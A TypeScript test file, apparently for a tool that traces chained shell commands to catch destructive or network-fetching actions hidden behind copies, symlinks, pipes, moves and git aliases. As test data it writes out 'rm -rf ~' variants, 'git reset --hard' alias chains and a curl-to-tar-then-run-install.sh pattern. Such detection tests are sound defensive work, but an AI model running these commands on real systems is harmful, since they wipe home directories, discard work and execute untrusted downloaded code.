import { describe, expect, it } from 'vitest';
import { GONE, run, worldWritten, type Files } from './written-world.js';
import { containing } from './told.js';

const LIMIT = 64;

/** A chain of so many commands, each with its number and the next one. */
function chain(first: string, step: (from: number, to: number) => string, last: (end: number) => string, length: number): string {
  return [first, ...Array.from({ length }, (_, at) => step(at, at + 1)), last(length)].join('; ');
}

const CHAINS: readonly (readonly [name: string, command: (length: number) => string, expected: string])[] = [
  ['a script that is copied on', (length) => chain("echo 'rm -rf ~' > a0", (from, to) => `cp a${from} a${to}`, (end) => `sh a${end}`, length), GONE],
  ['a program that is copied on', (length) => chain('cp /bin/rm a0', (from, to) => `cp a${from} a${to}`, (end) => `./a${end} -rf ~`, length), GONE],
  ['a program that is linked on', (length) => chain('ln -s /bin/rm a0', (from, to) => `ln -s a${from} a${to}`, (end) => `./a${end} -rf ~`, length), GONE],
  ['what is moved on', (length) => chain('mv src a0', (from, to) => `mv a${from} a${to}`, (end) => `rm -rf a${end}`, length), 'delete -r /home/u/proj/src'],
  ['a program that is handed on', (length) => `cat /bin/rm${' | cat'.repeat(length)} > x; ./x -rf ~`, GONE],
  ['archives that are fetched', (length) => chain('true', (from) => `curl -s https://x.test/${from} | tar xz -C d${from}`, (end) => `sh d${end - 1}/install.sh`, length), 'execute host:https://x.test/'],
];

const told = (command: string, files: Files = {}): ReturnType<typeof run> => run(command, worldWritten(files));

describe('what leads on and on', () => {
  it.each(CHAINS)('%s is followed', async (_, command, expected) => {
    const { lines, obstacles } = await told(command(20));
    await expect(lines).toTell(containing(expected));
    expect(obstacles).toEqual([]);
  });

  it.each(CHAINS)('%s is an obstacle beyond a bound', async (_, command) => {
    expect((await told(command(LIMIT + 6))).obstacles).not.toEqual([]);
  });

  it.each([20, 200])('aliases of git are followed, as many as there are: %i', async (length) => {
    const aliases = Array.from({ length }, (_, at) => `-c alias.z${at + 1}=z${at}`).join(' ');
    await expect(told(`git -c alias.z0='reset --hard' ${aliases} z${length}`)).toTell(/^discard work-tree/);
  });

  it.each(['cp x.sh x.bak; sed -i s/a/b/ x.sh; cp x.bak x.sh; sh x.sh', 'cp a b; cp b a; ./a', 'mv a b; mv b a; rm a', 'git -c alias.a=b -c alias.b=a a'])('and what leads round comes to an end, without an obstacle: %s', async (command) => {
    expect((await told(command)).obstacles).toEqual([]);
  });

  it('of a program that nobody knows, all words are looked at', async () => {
    const words = Array.from({ length: 400 }, (_, at) => `a${at}.js`).join(' ');
    await expect(told(`echo 'rm -rf ~' > e.sh; prog ${words} e.sh`)).toTell(GONE);
    await expect(told(`prog ${words} e.sh`, { 'e.sh': 'rm -rf ~' })).toTell(GONE);
    expect((await told(`prog ${words}`)).obstacles).toEqual([]);
  });
});
